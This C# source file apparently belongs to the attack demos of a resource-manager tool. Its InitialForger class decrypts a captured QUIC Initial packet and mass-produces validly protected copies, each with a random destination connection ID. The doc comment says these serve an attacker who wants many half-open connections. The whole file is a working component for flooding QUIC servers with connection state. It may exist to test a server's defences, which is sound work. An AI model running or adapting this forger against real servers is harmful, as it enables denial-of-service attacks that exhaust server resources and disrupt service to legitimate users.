using System.Buffers.Binary;
using System.Security.Cryptography;
using System.Text;

namespace Rcmgr.Tool.Demo.Attacks;

/// <summary>
/// Turns one first packet of a handshake into any number of others, each with a destination id of its own, validly protected (RFC 9001 §5.2): what an
/// attacker sends who wants half-open connections and has no use for answers.
/// </summary>
internal sealed class InitialForger
{
    private const int TagBytes = 16;

    private static readonly byte[] Salt = Convert.FromHexString("38762cf7f55934b34d179ae6a4c80cadccbb7f0a");

    private readonly byte[] _frames;
    private readonly byte[] _sourceId;
    private readonly int _size;

    /// <param name="initial">A datagram with one Initial packet, its destination id and an empty token.</param>
    public InitialForger(byte[] initial)
    {
        _size = initial.Length;
        int destination = initial[5];
        byte[] id = initial[6..(6 + destination)];
        int at = 6 + destination;
        _sourceId = initial[(at + 1)..(at + 1 + initial[at])];
        at += 1 + initial[at];
        at += 1 + initial[at];
        bool isLongLength = initial[at] >> 6 == 2;
        int length = isLongLength
            ? BinaryPrimitives.ReadInt32BigEndian(initial.AsSpan(at)) & 0x3fffffff
            : BinaryPrimitives.ReadUInt16BigEndian(initial.AsSpan(at)) & 0x3fff;
        int number = at + (isLongLength ? 4 : 2);
        Keys keys = new(id);
        byte[] mask = keys.Mask(initial.AsSpan(number + 4, TagBytes));
        byte[] header = initial[..(number + 4)];
        header[0] ^= (byte)(mask[0] & 0x0f);
        int numberBytes = (header[0] & 3) + 1;
        for (int i = 0; i < numberBytes; i++)
            header[number + i] ^= mask[1 + i];
        header = header[..(number + numberBytes)];
        int sealedBytes = length - numberBytes;
        _frames = new byte[sealedBytes - TagBytes];
        using AesGcm aead = new(keys.Key, TagBytes);
        uint packetNumber = 0;
        for (int i = 0; i < numberBytes; i++)
            packetNumber = (packetNumber << 8) | header[number + i];
        ReadOnlySpan<byte> cipher = initial.AsSpan(number + numberBytes, sealedBytes);
        aead.Decrypt(keys.Nonce(packetNumber), cipher[..^TagBytes], cipher[^TagBytes..], _frames, header);
    }

    /// <summary>The same handshake's beginning with a new id.</summary>
    public byte[] Create(Random random)
    {
        byte[] id = new byte[8];
        random.NextBytes(id);
        // The short id makes room: what is left over is padding. The source's is repeated inside the handshake, and stays.
        byte[] start = [0xc3, 0, 0, 0, 1, 8, .. id, (byte)_sourceId.Length, .. _sourceId, 0];
        int frames = _size - start.Length - 2 - 4 - TagBytes;
        byte[] plain = new byte[Math.Max(frames, _frames.Length)];
        _frames.CopyTo(plain, 0);
        int length = 4 + plain.Length + TagBytes;
        byte[] header = [.. start, (byte)(0x40 | (length >> 8)), (byte)length, 0, 0, 0, 0];
        Keys keys = new(id);
        byte[] packet = [.. header, .. new byte[plain.Length + TagBytes]];
        using (AesGcm aead = new(keys.Key, TagBytes))
            aead.Encrypt(keys.Nonce(0), plain, packet.AsSpan(header.Length, plain.Length), packet.AsSpan(header.Length + plain.Length), header);
        byte[] mask = keys.Mask(packet.AsSpan(header.Length, TagBytes));
        packet[0] ^= (byte)(mask[0] & 0x0f);
        for (int i = 0; i < 4; i++)
            packet[header.Length - 4 + i] ^= mask[1 + i];
        return packet;
    }

    private sealed class Keys
    {
        private readonly byte[] _iv;
        private readonly byte[] _headerKey;

        public Keys(byte[] destinationId)
        {
            byte[] secret = HKDF.Extract(HashAlgorithmName.SHA256, destinationId, Salt);
            byte[] client = Expand(secret, "client in", 32);
            Key = Expand(client, "quic key", 16);
            _iv = Expand(client, "quic iv", 12);
            _headerKey = Expand(client, "quic hp", 16);
        }

        public byte[] Key { get; }

        public byte[] Nonce(uint packetNumber)
        {
            byte[] nonce = [.. _iv];
            for (int i = 0; i < 4; i++)
                nonce[11 - i] ^= (byte)(packetNumber >> (8 * i));
            return nonce;
        }

        public byte[] Mask(ReadOnlySpan<byte> sample)
        {
            using Aes aes = Aes.Create();
            aes.Key = _headerKey;
            return aes.EncryptEcb(sample, PaddingMode.None);
        }

        private static byte[] Expand(byte[] secret, string label, int length)
        {
            byte[] text = Encoding.ASCII.GetBytes("tls13 " + label);
            byte[] info = [(byte)(length >> 8), (byte)length, (byte)text.Length, .. text, 0];
            return HKDF.Expand(HashAlgorithmName.SHA256, secret, length, info);
        }
    }
}
